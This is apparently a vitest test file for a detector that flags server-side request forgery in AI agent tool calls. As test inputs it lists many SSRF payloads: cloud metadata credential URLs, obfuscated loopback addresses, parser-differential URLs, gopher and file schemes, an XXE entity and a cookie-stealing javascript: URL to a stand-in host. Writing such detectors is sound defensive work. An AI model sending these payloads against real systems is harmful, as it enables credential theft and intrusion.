import { beforeAll, describe, expect, it } from 'vitest';
import { categorize } from '../../src/classify/category.js';
import { classify, initClassifier } from '../../src/classify/classify.js';
import { detectUrls, ssrfProblem } from '../../src/classify/detectors/urls.js';
import { parseIPv4Host } from '../../src/classify/urls/ip.js';
import type { Signal } from '../../src/classify/types.js';
import { collectStrings } from '../../src/classify/walk.js';

/** run feeds one tool call to detectUrls alone, as classify() would. */
function run(toolName: string, args: Record<string, unknown>): Signal[] {
  return detectUrls({ toolName, category: categorize(toolName, Object.keys(args)), fields: collectStrings(args, '/arguments') });
}
const fetchUrl = (url: string): Signal[] => run('http_request', { method: 'GET', url });

describe('parseIPv4Host()', () => {
  it.each([
    ['127.0.0.1', '127.0.0.1'],
    ['2130706433', '127.0.0.1'],
    ['0x7f000001', '127.0.0.1'],
    ['0x7f.0x0.0x0.0x1', '127.0.0.1'],
    ['0177.0.0.1', '127.0.0.1'],
    ['0177.0000.0000.0001', '127.0.0.1'],
    ['017700000001', '127.0.0.1'],
    ['127.1', '127.0.0.1'],
    ['127.0.1', '127.0.0.1'],
    ['0xa9.0376.43518', '169.254.169.254'],
    ['0300.11010305', '192.168.1.1'],
    ['425.510.425.510', '169.254.169.254'],
    ['7147006462', '169.254.169.254'],
    ['0', '0.0.0.0'],
  ])('reads %s as %s', (host, address) => {
    expect(parseIPv4Host(host)?.addr.toString()).toBe(address);
  });

  it.each(['example.com', '1.2.3.4.5', 'abc.def', '08.1.1.1', '1.2.3.0x1g'])('does not read %s as an address', (host) => {
    expect(parseIPv4Host(host)).toBeUndefined();
  });
});

describe('ssrfProblem()', () => {
  it.each([
    // Loopback in every spelling.
    ['http://127.0.0.1/', 'loopback address 127.0.0.1'],
    ['http://2130706433/', 'loopback address 127.0.0.1'],
    ['http://0x7f000001/', 'loopback address 127.0.0.1'],
    ['http://0177.0.0.1/', 'loopback address 127.0.0.1'],
    ['http://127.1/', 'loopback address 127.0.0.1'],
    ['http://127.000.000.001/', 'loopback address 127.0.0.1'],
    ['http://[::1]/', 'loopback address ::1'],
    ['http://[0:0:0:0:0:0:0:1]:8080/', 'loopback address ::1'],
    ['http://[::ffff:127.0.0.1]/', 'loopback address 127.0.0.1 (IPv4-mapped'],
    ['http://[::ffff:7f00:1]/', 'loopback address 127.0.0.1 (IPv4-mapped'],
    ['http://[::127.0.0.1]/', 'loopback address 127.0.0.1 (IPv4-compatible'],
    ['http://[64:ff9b::7f00:1]/', 'loopback address 127.0.0.1 (NAT64'],
    ['http://[2002:7f00:1::]/', 'loopback address 127.0.0.1 (6to4'],
    ['http://[::1%25lo]/', 'loopback address ::1'],
    ['http://localhost:8080/admin', 'loopback name localhost'],
    ['http://LOCALHOST./', 'loopback name localhost'],
    ['http://api.localhost/', 'loopback name api.localhost'],
    ['http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/', 'loopback address 127.0.0.1'],
    ['http://\uff11\uff12\uff17\uff0e\uff10\uff0e\uff10\uff0e\uff11/', 'loopback address 127.0.0.1'],
    ['http://0/', 'unspecified address'],
    ['http://0.0.0.0:5000/', 'unspecified address'],
    ['http://[::]/', 'unspecified address'],
    // Private networks.
    ['http://10.0.0.1/', 'private address 10.0.0.1'],
    ['http://172.16.0.1/', 'private address 172.16.0.1'],
    ['http://192.168.1.1/', 'private address 192.168.1.1'],
    ['http://3232235777/', 'private address 192.168.1.1'],
    ['http://0xc0.0xa8.0x1.0x1/', 'private address 192.168.1.1'],
    ['http://266.256.256.257/', 'overflowing 266.256.256.257 wraps to private address 10.0.0.1'],
    ['http://100.64.0.1/', 'carrier-grade NAT address'],
    ['http://[fc00::1]/', 'unique-local address'],
    ['http://[fe80::1%25eth0]/', 'link-local address fe80::1'],
    ['http://169.254.1.1/', 'link-local address'],
    // Metadata services.
    ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'cloud metadata address 169.254.169.254'],
    ['http://0xa9fea9fe/', 'cloud metadata address 169.254.169.254'],
    ['http://[::ffff:a9fe:a9fe]/', 'cloud metadata address 169.254.169.254'],
    ['http://[fd00:ec2::254]/latest/', 'cloud metadata address fd00:ec2::254'],
    ['http://169.254.170.2/v2/credentials', 'cloud metadata address 169.254.170.2'],
    ['http://100.100.100.200/latest/meta-data/', 'cloud metadata address 100.100.100.200'],
    ['http://192.0.0.192/latest/', 'cloud metadata address 192.0.0.192'],
    ['http://metadata.google.internal/computeMetadata/v1/', 'cloud metadata host metadata.google.internal'],
    ['http://metadata/computeMetadata/v1/', 'cloud metadata host metadata'],
    // Names that resolve inside.
    ['http://127.0.0.1.nip.io/', 'hostname 127.0.0.1.nip.io embeds loopback address'],
    ['http://app.10-0-0-5.sslip.io/', 'embeds private address 10.0.0.5'],
    ['http://169.254.169.254.xip.io/', 'embeds cloud metadata address'],
    ['http://7f000001.c0a80001.rbndr.us/', 'embeds loopback address'],
    ['http://localtest.me/', 'localtest.me resolves to 127.0.0.1'],
    ['http://anything.lvh.me/', 'resolves to 127.0.0.1'],
    ['http://db.internal:5432/', 'internal DNS name db.internal'],
    ['http://vault.service.consul:8200/v1/secret/data/prod', 'internal DNS name vault.service.consul'],
    ['http://host.docker.internal:2375/containers/json', 'container host name host.docker.internal'],
    ['http://jenkins/', 'single-label intranet name jenkins'],
    // Parser differentials.
    ['http://example.com@127.0.0.1/', 'loopback address 127.0.0.1'],
    ['http://127.0.0.1#@example.com/', 'loopback address 127.0.0.1'],
    ['http://127.0.0.1:80@example.com/', 'loopback address 127.0.0.1'],
    ['http://user@example.com@10.0.0.1/', 'private address 10.0.0.1'],
    ['http://example.com+&@example.org#+@0177.0.0.1:80/', 'loopback address 127.0.0.1'],
    ['http://0x7f.1:80\twww.example.com/', 'loopback address 127.0.0.1'],
    ['http://2130706433:80%09www.example.com/', 'loopback address 127.0.0.1'],
    ['http://127.1.1.1:80\\@@example.com/', 'loopback address 127.1.1.1'],
    ['http://localhost%00.example.com/', 'loopback name localhost'],
    ['http://[::1/', 'loopback address ::1'],
    ['https://example.com/?next=http://127.0.0.1:8080/admin', 'nested URL: loopback address 127.0.0.1'],
    ['https://example.com/r?u=http%3A%2F%2F169.254.169.254%2Flatest', 'nested URL: cloud metadata address'],
    ['https://proxy.example/fetch/169.254.169.254/latest/meta-data/', 'cloud metadata address in the URL path or query'],
    ['https://proxy.example/?target=169.254.169.254', 'cloud metadata address in the URL path or query'],
    ['http://nicob.net/redir-http-169.254.169.254:80-', 'cloud metadata address in the URL path or query'],
    // Schemes that are not HTTP.
    ['gopher://127.0.0.1:6379/_FLUSHALL', 'non-HTTP scheme gopher: to loopback address 127.0.0.1'],
    ['gopher://example.com/_x', 'non-HTTP scheme gopher:'],
    ['dict://example.com:11211/stats', 'non-HTTP scheme dict:'],
    ['file:///etc/passwd', 'non-HTTP scheme file:'],
    ['ftp://files.example.com/', 'non-HTTP scheme ftp:'],
    ['ldap://example.com/dc=x', 'non-HTTP scheme ldap:'],
    ['tftp://example.com/boot', 'non-HTTP scheme tftp:'],
    ['jar:http://example.com/a.jar!/x.class', 'non-HTTP scheme jar:'],
    ['javascript:fetch("https://collector.example/?c="+document.cookie)', 'non-HTTP scheme javascript:'],
    ['netdoc:///etc/passwd', 'non-HTTP scheme netdoc:'],
    ['sftp://example.com/', 'non-HTTP scheme sftp:'],
    ['smb://fileserver/share', 'non-HTTP scheme smb:'],
    ['mailto:ops@example.com', 'non-HTTP scheme mailto:'],
    // Bare host:port, as upstream settings are often written.
    ['127.0.0.1:6379', 'loopback address 127.0.0.1'],
    ['localhost:3000', 'loopback name localhost'],
    ['[::1]:80', 'loopback address ::1'],
  ])('%s: %s', (url, reason) => {
    expect(ssrfProblem(url)).toContain(reason);
  });

  it.each([
    'https://example.com/',
    'https://api.github.com/repos/nodejs/node',
    'http://8.8.8.8/',
    'https://1.1.1.1/dns-query',
    'https://[2606:4700:4700::1111]/',
    'https://user:secret@example.com/',
    'https://example.com:8443/x?y=1#z',
    'https://münchen.de/',
    'https://ec2-54-1-2-3.compute-1.amazonaws.com/',
    'https://en.wikipedia.org/wiki/Localhost',
    'https://portswigger.net/web-security/ssrf/lab-basic-ssrf-against-localhost',
    'https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html',
    'https://medium.com/@someone/ssrf-to-cloud-metadata-1234',
    'https://www.google.com/search?q=127.0.0.1',
    'https://raw.githubusercontent.com/acme/notes/main/169.254.169.254-hardening.md',
    'https://github.com/assetnote/blind-ssrf-chains#redis',
    'wss://stream.example.com/socket',
    'example.com',
    'api.example.com:443',
    'main',
    'production',
  ])('accepts %s', (url) => {
    expect(ssrfProblem(url)).toBeUndefined();
  });
});

describe('detectUrls()', () => {
  it.each([
    ['http://169.254.169.254/latest/meta-data/', 'critical'],
    ['http://metadata.google.internal/computeMetadata/v1/', 'critical'],
    ['http://127.0.0.1:2375/containers/json', 'high'],
    ['http://192.168.0.1/admin', 'high'],
    ['http://host.containers.internal:8080/', 'high'],
    ['gopher://127.0.0.1:6379/_SET%20x', 'high'],
    ['dict://example.com:11211/', 'high'],
    ['ftp://example.com/', 'medium'],
    ['http://intranet/', 'medium'],
  ])('flags the url field %s (%s)', (url, severity) => {
    expect(fetchUrl(url)).toEqual([expect.objectContaining({ id: 'ssrf', severity, path: '/arguments/url' })]);
  });

  it('reads url-like keys of any tool, bare host:port included', () => {
    expect(run('register_hook', { callback_url: 'http://10.1.2.3/hook' })[0]).toMatchObject({ path: '/arguments/callback_url', severity: 'high' });
    expect(run('configure', { settings: { webhookUrl: 'http://[::1]:9000/' } })[0]?.path).toBe('/arguments/settings/webhookUrl');
    expect(run('connect', { host: '10.0.0.7' })[0]?.severity).toBe('high');
    expect(run('proxy_to', { upstream: '127.0.0.1:6379' })).toHaveLength(1);
    expect(run('publish', { broker_url: 'amqp://10.0.0.5:5672/' })[0]?.evidence).toMatch(/^private address 10\.0\.0\.5/);
  });

  it("leaves the private host an ssh or ansible tool logs in to alone, not a metadata service", () => {
    expect(run('ssh_exec', { host: '10.0.2.14', command: 'df -h' })).toEqual([]);
    expect(run('ansible_run', { hosts: 'localhost', playbook: 'site.yml' })).toEqual([]);
    expect(run('ssh_exec', { host: '169.254.169.254', command: 'id' })[0]).toMatchObject({ severity: 'critical', path: '/arguments/host' });
  });

  it('does not treat non-URL keys that merely end like one as URLs', () => {
    expect(run('db_query', { sql: 'SELECT 1', database: 'car_racing' })).toEqual([]);
    expect(run('create_pr', { base: 'main', head: 'feature' })).toEqual([]);
  });

  it('finds internal URLs in free text, one level less severe unless they reach metadata', () => {
    expect(run('shell', { command: 'curl -s http://169.254.169.254/latest/meta-data/iam/' })[0]).toMatchObject({ severity: 'critical', path: '/arguments/command' });
    expect(run('shell', { command: 'curl http://127.0.0.1:8500/v1/kv/?recurse' })[0]?.severity).toBe('medium');
    expect(run('db_query', { sql: `SELECT utl_http.request('http://192.168.1.1/') FROM dual` })[0]?.severity).toBe('medium');
    expect(run('send_email', { to: 'a', body: 'Try gopher://10.0.0.1:25/_HELO' })).toHaveLength(1);
  });

  it('reports a URL content only mentions as low, below the default policy', () => {
    // A README, a chat message, a ticket: the tool writes or posts the text, it requests nothing.
    expect(run('write_file', { path: 'docs/dev.md', content: 'Open http://localhost:3000 in your browser.' })).toEqual([expect.objectContaining({ severity: 'low' })]);
    expect(run('post_message', { channel: '#dev', text: 'staging API is up at http://10.0.3.7:8080/health' })).toEqual([expect.objectContaining({ severity: 'low' })]);
    expect(run('write_file', { path: 'docs/imds.md', content: 'we block http://169.254.169.254/latest/meta-data/ at the proxy' })[0]?.severity).toBe('low');
    // A metadata service named in a request body stays critical: the receiving service may fetch it.
    expect(run('http_request', { method: 'POST', url: 'https://importer.example.com/jobs', body: 'http://169.254.169.254/latest/meta-data/iam/' })[0]?.severity).toBe('critical');
    // Markup written to a file is fetched by whoever opens it, not by the tool.
    expect(run('write_file', { path: 'index.html', content: '<script type="module" src="http://localhost:5173/@vite/client"></script>' })[0]?.severity).toBe('low');
  });

  it('keeps the full severity of a reference that a rendering or parsing tool fetches by itself', () => {
    expect(run('render_pdf', { html: '<img src="http://127.0.0.1:8080/admin">' })[0]?.severity).toBe('high');
    expect(run('render_pdf', { html: '<img src="file:///etc/passwd">' })[0]).toMatchObject({ severity: 'high', evidence: expect.stringContaining('non-HTTP scheme file:') });
    expect(run('parse_xml', { xml: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>' })[0]?.severity).toBe('high');
    expect(run('html_to_image', { html: '<div style="background: url(http://10.0.0.5/secret.png)"></div>' })[0]?.severity).toBe('high');
    // A link is not fetched when the page renders.
    expect(run('render_pdf', { html: '<a href="http://127.0.0.1:8080/admin">admin</a>' })[0]?.severity).toBe('low');
  });

  it('leaves public links, other schemes and write-ups that only mention SSRF alone', () => {
    expect(run('create_contact', { link: 'mailto:ops@example.com' })).toEqual([]);
    expect(fetchUrl('https://portswigger.net/web-security/ssrf')).toEqual([]);
    expect(fetchUrl('https://web.archive.org/web/2020/https://blog.example.com/ssrf-metadata-aws/')).toEqual([]);
    expect(run('send_email', { to: 'a', body: 'Docs: https://docs.example.com/metadata and file:///C:/docs/readme.txt' })).toEqual([]);
  });

  it('explains the finding with a short excerpt of the URL', () => {
    const [signal] = fetchUrl(`http://169.254.169.254/latest/${'a/'.repeat(200)}`);
    expect(signal?.evidence).toMatch(/^cloud metadata address 169\.254\.169\.254: http:\/\/169\.254\.169\.254\/latest/);
    expect(signal!.evidence.length).toBeLessThanOrEqual(140);
  });
});

describe('classify() with detectUrls', () => {
  beforeAll(async () => {
    await initClassifier();
  });

  it('reports ssrf on an http_request call', () => {
    const { category, signals } = classify('http_request', { method: 'GET', url: 'http://[::ffff:169.254.169.254]/latest/' });
    expect(category).toBe('network');
    expect(signals).toContainEqual(expect.objectContaining({ id: 'ssrf', severity: 'critical', path: '/arguments/url' }));
  });
});
